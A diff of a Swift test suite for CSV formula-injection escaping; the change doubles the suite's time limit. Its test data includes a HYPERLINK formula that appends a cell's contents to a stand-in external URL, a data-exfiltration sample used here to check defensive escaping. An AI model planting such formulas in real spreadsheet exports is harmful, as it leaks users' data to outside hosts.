@@ -5,7 +5,7 @@ import Testing
 /// injection advice: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
 /// leading `'`), and import takes the `'` off again, so export → import → export is unchanged
 /// (docs/exports.md, "Formulas").
-@Suite(.timeLimit(.minutes(10))) struct CSVFormulaTests {
+@Suite(.timeLimit(.minutes(20))) struct CSVFormulaTests {
     /// Texts a spreadsheet would read as formulas, and one that already starts with `'`.
     static let hostile = [
         "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
